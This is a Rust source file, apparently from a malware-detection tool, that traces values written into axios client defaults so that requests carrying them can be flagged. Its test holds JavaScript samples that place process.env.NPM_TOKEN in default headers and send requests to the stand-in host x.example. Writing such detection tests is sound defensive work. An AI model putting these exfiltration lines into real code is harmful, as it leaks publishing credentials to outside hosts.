//! What is set in the defaults of a client after it was made: `api.defaults.headers.common['X-Key'] = key`.

use super::hook::paths_of;
use crate::{
    eval::Evaluator,
    ir::{Expr, ExprId, Module},
    tables::Channel,
    value::{Path, Value},
};

/// Writes to the defaults of one client that are looked at.
const MOST_WRITTEN: usize = 32;
/// Properties between what is written to and the defaults.
const MOST_PROPERTIES: usize = 4;

/// What a graph writes to the defaults of clients, or somewhere in them.
#[derive(Debug, Default)]
pub(crate) struct Defaults {
    written: Vec<Written>,
}

#[derive(Debug)]
struct Written {
    channel: usize,
    /// The clients that it may be written to.
    clients: Vec<Path>,
    value: ExprId,
}

impl Defaults {
    pub(super) fn find(evaluator: &mut Evaluator<'_>, channels: &[Channel]) -> Self {
        let module = evaluator.module;
        let mut found = Self::default();
        for (channel, defaults) in
            channels.iter().enumerate().filter_map(|(at, it)| Some((at, it.defaults.as_deref()?)))
        {
            let names: Vec<&str> = defaults.split('.').collect();
            for write in &module.writes {
                let Some(holder) = client_before(module, write.object, &names) else { continue };
                let clients = paths_of(&evaluator.value(holder));
                found.written.push(Written { channel, clients, value: write.value });
            }
        }
        found
    }

    /// What is written to those of a client; clients that are made of another one have its.
    pub(super) fn of(&self, evaluator: &mut Evaluator<'_>, channel: usize, client: &Path) -> Vec<Value> {
        let is_it = |path: &Path| path.root == client.root && client.segments.starts_with(&path.segments);
        let written =
            self.written.iter().filter(|written| written.channel == channel && written.clients.iter().any(is_it));
        let values: Vec<ExprId> = written.take(MOST_WRITTEN).map(|written| written.value).collect();
        evaluator.values(&values)
    }
}

/// What has the defaults that something is, or is in.
fn client_before(module: &Module, object: ExprId, defaults: &[&str]) -> Option<ExprId> {
    let mut names: Vec<&str> = Vec::new();
    let mut at = object;
    for _ in 0..MOST_PROPERTIES {
        at = match module.expr(at) {
            Expr::Member(holder, name) => {
                names.insert(0, name);
                if names.starts_with(defaults) {
                    return Some(*holder);
                }
                *holder
            }
            Expr::Index(holder, _) => {
                names.clear();
                *holder
            }
            _ => return None,
        };
    }
    None
}

#[cfg(test)]
mod tests {
    use molehunt_model::Behaviour;

    use crate::testing::extracted;

    #[test]
    fn what_is_set_in_the_defaults_is_sent() {
        let before = "const axios = require('axios'); const api = axios.create({ baseURL: 'https://x.example' });";
        for code in [
            "api.defaults.headers.common['x-k'] = process.env.NPM_TOKEN; api.get('/v1')",
            "api.defaults.headers = { 'x-k': process.env.NPM_TOKEN }; api.get('/v1')",
            "axios.defaults.headers.post.Authorization = process.env.NPM_TOKEN; axios.post('https://x.example', {})",
        ] {
            let facts = extracted(&format!("{before} {code}")).facts;
            let carries = |fact: &molehunt_model::Fact| matches!(&fact.behaviour, Behaviour::SendData(sent) if sent.carries.iter().any(|it| it.name == "NPM_TOKEN"));
            assert!(facts.iter().any(carries), "{code}");
        }
    }
}
